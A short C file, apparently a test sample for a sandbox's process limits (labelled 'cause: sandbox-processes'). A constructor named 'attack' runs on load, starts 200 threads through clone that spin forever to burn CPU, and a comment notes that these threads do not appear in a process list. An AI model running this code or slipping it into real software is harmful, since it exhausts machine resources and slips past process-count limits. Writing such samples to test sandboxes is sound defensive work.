/* cause: sandbox-processes */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <unistd.h>

static char stacks[200][4096];

static int burn(void *argument)
{
    for (;;)
        *(volatile char *)argument += 1;
}

/* Threads, which no list of processes shows, each at work. */
__attribute__((constructor)) static void attack(void)
{
    for (int i = 0; i < 200; i++)
        if (clone(burn, stacks[i] + 4000, CLONE_VM | CLONE_SIGHAND | CLONE_THREAD, stacks[i]) < 0)
            usleep(1000);
    pause();
}
